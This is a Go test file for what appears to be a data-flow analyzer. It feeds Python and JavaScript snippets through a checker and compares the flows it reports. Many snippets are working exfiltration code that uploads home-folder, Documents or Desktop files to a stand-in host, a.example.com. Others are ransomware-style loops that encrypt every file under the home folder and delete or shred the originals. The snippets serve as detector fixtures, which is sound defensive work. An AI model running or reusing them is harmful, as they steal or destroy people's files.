package chain_test

import (
	"slices"
	"testing"
)

// Files of the user are sources: those in their folders, those that are looked for, and
// those that a program is given. What only has the name of one holds nothing of it.
func TestFilesOfTheUser(t *testing.T) {
	for name, one := range map[string]struct {
		text string
		want []string
	}{
		"a folder of documents": {`
import os, requests
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    for f in files:
        with open(os.path.join(root, f), "rb") as one:
            requests.post("https://a.example.com/in", files={"file": one})
`, []string{"personal ~/Documents -> send body a.example.com"}},
		"all of the home folder": {`
from pathlib import Path
import requests
for p in Path.home().rglob("*.docx"):
    requests.post("https://a.example.com/in", data=p.read_bytes())
`, []string{"personal the home folder -> send body a.example.com"}},
		"its own settings": {`
from pathlib import Path
import requests
for p in (Path.home() / ".tidy").glob("*.json"):
    requests.post("https://a.example.com/in", data=p.read_bytes())
`, nil},
		"what programs leave": {`
import os
from pathlib import Path
import glob
for p in Path.home().rglob("*.pyc"):
    p.unlink()
for p in glob.glob(os.path.expanduser("~/Documents/**/.DS_Store"), recursive=True):
    os.remove(p)
`, nil},
		"what people make": {`
from pathlib import Path
for p in Path.home().rglob("*.docx"):
    p.unlink()
`, []string{"personal the home folder -> change delete "}},
		"the names alone": {`
import os, sys, requests
requests.post("https://a.example.com/in", json={"q": sys.argv[1], "n": os.listdir(os.path.expanduser("~/Documents"))})
`, nil},
		"an argument": {`
import argparse, requests
p = argparse.ArgumentParser()
p.add_argument("file")
args = p.parse_args()
def text(name):
    return open(name).read()
requests.post("https://a.example.com/in", data=text(args.file))
`, []string{"argument what argparse.ArgumentParser().parse_args names -> send body a.example.com"}},
		"what is worked on": {`
import pathlib, requests
body = {}
for p in pathlib.Path(".").rglob("*.py"):
    body[str(p)] = p.read_text()
requests.post("https://a.example.com/in", json=body)
`, []string{"workspace the working folder -> send body a.example.com"}},
		"by an archive": {`
import os, shutil, requests
shutil.make_archive("/tmp/all-of-it", "zip", os.path.expanduser("~/Desktop"))
requests.put("https://a.example.com/in", data=open("/tmp/all-of-it", "rb"))
`, []string{"personal ~/Desktop -> send body a.example.com"}},
		"by a program": {`
import os, subprocess
home = os.path.expanduser("~")
subprocess.run(["tar", "czf", "/tmp/one.tgz", home + "/Documents"])
subprocess.run(["curl", "-F", "f=@/tmp/one.tgz", "https://a.example.com/in"])
`, []string{"personal ~/Documents -> send command a.example.com"}},
		"encrypted and taken away": {`
import os
from cryptography.fernet import Fernet
box = Fernet(Fernet.generate_key())
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for f in files:
        path = os.path.join(root, f)
        data = open(path, "rb").read()
        with open(path + ".locked", "wb") as out:
            out.write(box.encrypt(data))
        os.remove(path)
`, []string{"personal the home folder -> change copy  locked", "personal the home folder -> change delete "}},
		"one name for two files": {`
import os
from cryptography.fernet import Fernet
box = Fernet(Fernet.generate_key())
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        path = os.path.join(root, name)
        with open(path, "rb") as f:
            data = box.encrypt(f.read())
        with open(path + ".locked", "wb") as f:
            f.write(data)
        os.remove(path)
`, []string{"personal the home folder -> change copy  locked", "personal the home folder -> change delete "}},
		"in place, by hand": {`
from pathlib import Path
for p in (Path.home() / "Documents").rglob("*"):
    data = p.read_bytes()
    p.write_bytes(bytes(b ^ 90 for b in data))
`, []string{"personal ~/Documents -> change overwrite  locked"}},
		"a copy for later": {`
import os
from cryptography.fernet import Fernet
box = Fernet(open("key").read())
for root, dirs, files in os.walk(os.path.expanduser("~/Documents")):
    for f in files:
        data = open(os.path.join(root, f), "rb").read()
        open(os.path.join("/mnt/backup", f + ".enc"), "wb").write(box.encrypt(data))
`, []string{"personal ~/Documents -> change copy  locked"}},
		"by a command": {`
import os, subprocess
for root, dirs, files in os.walk(os.path.expanduser("~/Pictures")):
    for f in files:
        p = os.path.join(root, f)
        subprocess.run(["openssl", "enc", "-aes-256-cbc", "-in", p, "-out", p + ".enc", "-k", "x"])
        subprocess.run(["shred", "-u", p])
`, []string{"personal ~/Pictures -> change copy  locked", "personal ~/Pictures -> change delete "}},
	} {
		t.Run(name, func(t *testing.T) {
			if got := follow(t, "-- a.py --\n"+one.text); !slices.Equal(got, one.want) {
				t.Errorf("got  %q\nwant %q", got, one.want)
			}
		})
	}
	for name, one := range map[string]struct {
		text string
		want []string
	}{
		"an argument": {`
const fs = require("fs");
const file = process.argv[2];
fetch("https://a.example.com/in", { method: "POST", body: fs.readFileSync(file) });
`, []string{"argument what process.argv names -> send body a.example.com"}},
		"a folder": {`
const fs = require("fs"), path = require("path"), os = require("os");
const dir = path.join(os.homedir(), "Desktop");
for (const f of fs.readdirSync(dir)) {
  fetch("https://a.example.com/in", { method: "POST", body: fs.readFileSync(path.join(dir, f)) });
}
`, []string{"personal ~/Desktop -> send body a.example.com"}},
		"a cipher": {`
const fs = require("fs"), path = require("path"), os = require("os"), crypto = require("crypto");
function each(dir) {
  for (const f of fs.readdirSync(dir)) {
    const p = path.join(dir, f);
    const c = crypto.createCipheriv("aes-256-cbc", key, iv);
    fs.writeFileSync(p + ".locked", Buffer.concat([c.update(fs.readFileSync(p)), c.final()]));
    fs.unlinkSync(p);
  }
}
each(os.homedir());
`, []string{"personal the home folder -> change copy  locked", "personal the home folder -> change delete "}},
	} {
		t.Run("javascript "+name, func(t *testing.T) {
			if got := follow(t, "-- a.js --\n"+one.text); !slices.Equal(got, one.want) {
				t.Errorf("got  %q\nwant %q", got, one.want)
			}
		})
	}
}
